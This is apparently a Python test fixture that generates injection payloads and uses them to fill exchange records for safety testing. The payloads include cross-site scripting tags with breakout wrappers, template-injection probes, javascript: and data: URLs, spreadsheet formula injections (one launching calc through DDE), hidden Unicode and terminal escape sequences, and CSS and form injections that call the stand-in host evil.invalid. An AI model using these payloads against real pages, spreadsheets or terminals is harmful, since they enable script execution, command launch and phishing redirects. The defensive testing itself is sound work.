"""Texts that would do something if a page, a spreadsheet or a terminal took them for more than texts."""

from itertools import product

from sisf.exchange import Exchange

_MARK = "window.pwned=1"
_TAGS = (
    f"<script>{_MARK}</script>",
    f"<img src=x onerror={_MARK}>",
    f"<svg onload={_MARK}>",
    f"<body onload={_MARK}>",
    f"<iframe srcdoc='<script>parent.{_MARK}</script>'></iframe>",
    f"<a href=javascript:{_MARK} autofocus onfocus={_MARK}>x</a>",
    f"<input autofocus onfocus={_MARK}>",
    f"<details open ontoggle={_MARK}>",
    "<style>@import 'http://evil.invalid/x.css';body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<img src=http://evil.invalid/pixel.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/><button>Sign in</button></form>",
    f"<math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={_MARK} src>",
    "<object data=http://evil.invalid/x></object>",
)
_BREAKOUTS = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--></pre>{}", "]]>{}", "</svg></style>{}")
_TEMPLATES = (
    "{{ 7919*7927 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
    "${7919*7927}",
    "#{7919*7927}",
)
_URLS = (
    f"javascript:{_MARK}",
    "data:text/html,<script>alert(1)</script>",
    "//evil.invalid/x",
    "http://evil.invalid/?q=",
    "vbscript:msgbox(1)",
)
_FORMULAS = (
    '=HYPERLINK("http://evil.invalid/","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "|calc",
    "%0A=1",
)
_HIDDEN = ("\u202e", "\u2066", "\u200b", "\u200d\u200c", "\ufeff", "\u00ad", "\u3164", "\U000e0041\U000e0042", "\ufe0f")
_CONTROLS = (
    "\x1b[31m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07",
    "\x08\x08\x08",
    "\x7f",
    "\r",
    "\0",
    "\x85",
)
_LONG = ("A" * 5_000, "\u200b" * 5_000, "a" + "\u0301" * 2_000, "\n" * 2_000, "&" * 3_000, "<" * 3_000, "ﷺ" * 500)
_CSS = (
    "};body{background:url(http://evil.invalid/c)}",
    "expression(alert(1))",
    "url(http://evil.invalid/d)",
    "\\3c script",
)

PAYLOADS = [
    *(frame.format(tag) for tag, frame in product(_TAGS, _BREAKOUTS)),
    *_TEMPLATES,
    *_URLS,
    *_FORMULAS,
    *(f"before{hidden}after" for hidden in _HIDDEN),
    *(f"{hidden}txt.exe" for hidden in _HIDDEN),
    *(f"before{control}after" for control in _CONTROLS),
    *(f"{control}" for control in _CONTROLS),
    *_LONG,
    *_CSS,
    *(f'" {event}={_MARK} x="' for event in ("onclick", "onfocus", "onmouseover", "onerror", "onload")),
]


def described(payload: str) -> str:
    """As the description of a policy, which must say something."""
    return payload[:300] if payload[:300].strip() else f"x{payload[:300]}"


def pick(place: int) -> str:
    """One of the texts; behind the last one comes the first."""
    return PAYLOADS[place % len(PAYLOADS)]


def said(number: int) -> Exchange:
    """An exchange, `hNUMBER`, all of whose parts are such texts."""
    return Exchange.of(
        pick(number),
        pick(number + 7),
        id=f"h{number}",
        model=pick(number + 29),
        tenant=pick(number + 31)[:200],
        principal=pick(number + 37)[:200],
    )
